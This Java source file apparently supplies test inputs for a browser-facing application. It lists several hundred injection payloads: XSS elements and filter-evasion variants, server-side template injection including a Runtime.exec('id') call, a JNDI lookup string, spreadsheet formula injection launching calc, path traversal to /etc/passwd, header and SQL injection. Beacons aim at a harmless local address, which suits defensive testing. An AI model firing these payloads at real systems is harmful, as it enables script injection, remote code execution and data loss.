package org.lian.browser;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.stream.Stream;

/**
 * What a hostile person types. Each markup carries an element or attribute named {@code planted}, so that it is found in
 * a document even where its script could not run; each formula has {@link #RESULT} for its result.
 */
final class Payloads {
    /** 7919 × 104729: on no page of a court, unless it evaluated what somebody typed. */
    static final String RESULT = "829348951";

    private static final String RUN = "top.struck=1";

    /** Elements that run something by themselves, each in its own way. */
    private static final List<String> ELEMENTS = List.of(
            "<script planted>" + RUN + "</script>",
            "<script planted src=//127.0.0.2:9/x.js></script>",
            "<script planted type=module>alert(1)</script>",
            "<img planted src=x onerror=" + RUN + ">",
            "<img planted src=//127.0.0.2:9/beacon.gif>",
            "<image planted src=x onerror=alert`1`>",
            "<svg planted onload=" + RUN + ">",
            "<svg planted><script>" + RUN + "</script></svg>",
            "<svg planted><animate onbegin=" + RUN + " attributeName=x dur=1s>",
            "<svg planted><set onbegin=" + RUN + " attributename=x>",
            "<svg planted><a xlink:href=javascript:" + RUN + "><text y=20>x</text></a></svg>",
            "<svg planted><foreignObject><iframe srcdoc=\"<script>" + RUN + "</script>\"></foreignObject></svg>",
            "<math planted href=javascript:" + RUN + ">x</math>",
            "<body planted onload=" + RUN + ">",
            "<body planted onpageshow=" + RUN + ">",
            "<input planted autofocus onfocus=" + RUN + ">",
            "<select planted autofocus onfocus=" + RUN + ">",
            "<textarea planted autofocus onfocus=" + RUN + ">",
            "<button planted autofocus onfocus=" + RUN + ">x</button>",
            "<p planted contenteditable autofocus onfocus=" + RUN + ">x</p>",
            "<video planted><source onerror=" + RUN + "></video>",
            "<video planted src=x onerror=confirm(1)></video>",
            "<audio planted src=x onerror=prompt(1)></audio>",
            "<details planted open ontoggle=" + RUN + ">x</details>",
            "<marquee planted onstart=" + RUN + ">x</marquee>",
            "<iframe planted src=javascript:" + RUN + "></iframe>",
            "<iframe planted srcdoc='<script>" + RUN + "</script>'></iframe>",
            "<object planted data=javascript:" + RUN + "></object>",
            "<embed planted src=javascript:" + RUN + ">",
            "<a planted href=javascript:" + RUN + ">请点这里</a>",
            "<a planted href=data:text/html,<script>" + RUN + "</script>>请点这里</a>",
            "<form planted action=javascript:" + RUN + "><button>提交</button></form>",
            "<form planted><button formaction=javascript:" + RUN + ">提交</button></form>",
            "<form planted action=//127.0.0.2:9/><input name=password></form>",
            "<link planted rel=stylesheet href=//127.0.0.2:9/x.css onerror=" + RUN + ">",
            "<style planted onload=" + RUN + ">*{background:url(//127.0.0.2:9/s)}</style>",
            "<base planted href=//127.0.0.2:9/>",
            "<meta planted http-equiv=refresh content=0;url=javascript:" + RUN + ">",
            "<div planted style=position:fixed;inset:0;background:red onmouseover=" + RUN + ">x</div>",
            "<div planted style=animation:x onanimationstart=" + RUN + ">x</div>",
            "<table planted background=//127.0.0.2:9/t><td>x</table>",
            "<planted onclick=" + RUN + " tabindex=1>x</planted>");

    /** Ways out of where a text usually stands. */
    private static final List<String> EXITS =
            List.of("\">", "'>", "--></title></textarea></script></style>", "</option></select></button></a>");

    /** The same element, written so that a filter by words does not see it. */
    private static final List<String> DISGUISES = List.of(
            "<ImG planted sRc=x OnErRoR=" + RUN + ">",
            "<img/planted/src=x/onerror=" + RUN + ">",
            "<img\tplanted\tsrc=x\tonerror=" + RUN + ">",
            "<img\nplanted\nsrc=x\nonerror\n=\n" + RUN + ">",
            "<img planted src=`x`onerror=" + RUN + ">",
            "<img planted src=\"x\"onerror=\"" + RUN + "\"",
            "<<img planted src=x onerror=" + RUN + ">>",
            "<img planted src=x onerror=&#116;op&#46;struck&#61;1>",
            "<img planted src=x onerror=top&period;struck&equals;1>",
            "<img planted src=x onerror=\\u0074op.struck=1>",
            "<img planted src=x onerror=eval(atob('dG9wLnN0cnVjaz0x'))>",
            "<a planted href=java&#9;script:" + RUN + ">x</a>",
            "<a planted href=javascript&colon;" + RUN + ">x</a>",
            "<a planted href=&#x6a;avascript:" + RUN + ">x</a>",
            "<a planted href=' javascript:" + RUN + "'>x</a>",
            "<scr<script planted>ipt>" + RUN + "</script>",
            "<script planted>//\u2028" + RUN + "</script>",
            "<svg planted/onload=" + RUN + "//",
            "<noscript><p title=\"</noscript><img planted src=x onerror=" + RUN + ">\">",
            "<math><mtext><table><mglyph><style><!--</style><img planted src=x onerror=" + RUN + ">",
            "<!--><img planted src=x onerror=" + RUN + ">-->",
            "<![CDATA[><img planted src=x onerror=" + RUN + ">]]>",
            "<?xml?><img planted src=x onerror=" + RUN + ">",
            "\uFF1Cimg planted src=x onerror=" + RUN + "\uFF1E",
            "%3Cimg planted src=x onerror=" + RUN + "%3E",
            "&lt;img planted src=x onerror=" + RUN + "&gt;",
            "&amp;lt;img planted src=x onerror=" + RUN + "&amp;gt;",
            "\\x3cimg planted src=x onerror=" + RUN + "\\x3e",
            "+ADw-img planted src=x onerror=" + RUN + "+AD4-");

    /** For texts that stand inside an attribute, a script, an address or a style. */
    private static final List<String> WITHOUT_TAGS = List.of(
            "\" planted autofocus onfocus=" + RUN + " x=\"",
            "' planted autofocus onfocus=" + RUN + " x='",
            "x planted autofocus onfocus=" + RUN,
            "\" planted onmouseover=\"" + RUN,
            "\" planted style=\"background:url(//127.0.0.2:9/a)",
            "\" planted formaction=\"javascript:" + RUN,
            "` planted onfocus=" + RUN + " autofocus `",
            "javascript:" + RUN,
            "JaVaScRiPt:" + RUN,
            "java\tscript:" + RUN,
            "javascript://%0a" + RUN,
            "data:text/html,<script planted>" + RUN + "</script>",
            "//127.0.0.2:9/",
            "\\\\127.0.0.2\\x",
            "';" + RUN + ";//",
            "\";" + RUN + ";//",
            "`;" + RUN + ";//",
            "${" + RUN + "}",
            "\\';" + RUN + ";//",
            "</script><script planted>" + RUN + "</script>",
            "}};" + RUN + ";{{",
            "expression(" + RUN + ")",
            "*/}*{background:url(//127.0.0.2:9/c)}/*");

    /** Read by a template engine of ours, of Camunda's pages, or of any other. */
    private static final List<String> FORMULAS = List.of(
            "[[${7919*104729}]]",
            "[(${7919*104729})]",
            "__${7919*104729}__::.x",
            "~{::__${7919*104729}__}",
            "${7919*104729}",
            "#{7919*104729}",
            "*{7919*104729}",
            "@{/__${7919*104729}__}",
            "${T(java.lang.Math).multiplyExact(7919,104729)}",
            "[[${T(java.lang.System).setProperty('struck','1')}]]",
            "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x",
            "${execution.setVariable('struck',7919*104729)}",
            "${runtimeService.deleteProcessInstance('x','')}",
            "{{7919*104729}}",
            "{{constructor.constructor('" + RUN + "')()}}",
            "{{$on.constructor('" + RUN + "')()}}",
            "{{$eval.constructor('" + RUN + "')()}}",
            "{{[].pop.constructor('" + RUN + "')()}}",
            "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}",
            "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };" + RUN + "//')}}",
            "{{ _openBlock.constructor('" + RUN + "')() }}",
            "<p planted ng-app ng-csp>{{7919*104729}}</p>",
            "<p planted ng-init=\"constructor.constructor('" + RUN + "')()\">x</p>",
            "<input planted autofocus ng-focus=$event.view.top.struck=1>",
            "<div planted ng-include=\"'//127.0.0.2:9/x.html'\"></div>",
            "<div planted ng-bind-html=\"'x'\"></div>",
            "{%7919*104729%}",
            "<%=7919*104729%>",
            "<#assign x=7919*104729>${x}",
            "#set($x=7919*104729)$x",
            "{{=7919*104729}}",
            "= 7919*104729",
            "${jndi:ldap://127.0.0.2:9/x}");

    /** htmx and Thymeleaf attributes, Markdown, spreadsheet formulas, things that hide or turn text round. */
    private static final List<String> OTHERS = List.of(
            "<p planted hx-get=//127.0.0.2:9/h hx-trigger=load>x</p>",
            "<p planted hx-post=/logout hx-trigger=load>x</p>",
            "<p planted hx-on::load=" + RUN + ">x</p>",
            "<p planted hx-on:htmx:load=" + RUN + ">x</p>",
            "<p planted data-hx-get=/help hx-trigger='load[" + RUN + "]'>x</p>",
            "<p planted hx-vals='js:{a:" + RUN + "}' hx-get=/help hx-trigger=load>x</p>",
            "<p planted hx-boost=true hx-ext=debug>x</p>",
            "<p planted th:utext=${7919*104729}>x</p>",
            "<p planted data-th-text=${7919*104729}>x</p>",
            "<p planted id=errors data-autosave data-print data-script-only>x</p>",
            "<form planted id=decision data-kind=REVIEW><input name=outcome></form>",
            "<a planted id=location href=//127.0.0.2:9/>x</a>",
            "[x](javascript:" + RUN + ")",
            "![x](//127.0.0.2:9/m.png\"onerror=\"" + RUN + ")",
            "[x]: javascript:" + RUN,
            "<javascript:" + RUN + ">",
            "=HYPERLINK(\"//127.0.0.2:9\",\"x\")",
            "+cmd|' /C calc'!A0",
            "-7919*104729",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "张三\u202Egnp.exe",
            "张\u200B三\u200D\uFEFF\u2066<img planted src=x onerror=" + RUN + ">\u2069",
            "\u202E>1=kcurts.pot=daolno detnalp gvs<",
            "a\u0300\u0301\u0302\u0303\u0304<svg planted onload=" + RUN + ">",
            "\uD83D\uDE00<svg planted onload=" + RUN + ">",
            "__proto__[planted]=1",
            "constructor",
            "../../../../etc/passwd",
            "%0d%0aSet-Cookie:struck=1",
            "'; drop table filing; --",
            "<plaintext planted>");

    private Payloads() {}

    static List<String> all() {
        var all = new LinkedHashSet<>(ELEMENTS);
        for (var i = 0; i < ELEMENTS.size(); i++) {
            all.add(EXITS.get(i % EXITS.size()) + ELEMENTS.get(i));
        }
        Stream.of(DISGUISES, WITHOUT_TAGS, FORMULAS, OTHERS).forEach(all::addAll);
        return new ArrayList<>(all);
    }

    /** Those that a browser takes for an element when they stand in a document as they are. */
    static List<String> markup() {
        return all().stream()
                .filter(payload -> payload.matches("(?is).*<[a-z/!?][^\uFF1C]*\\bplanted\\b.*"))
                .filter(payload -> !payload.startsWith("\" planted"))
                .toList();
    }
}
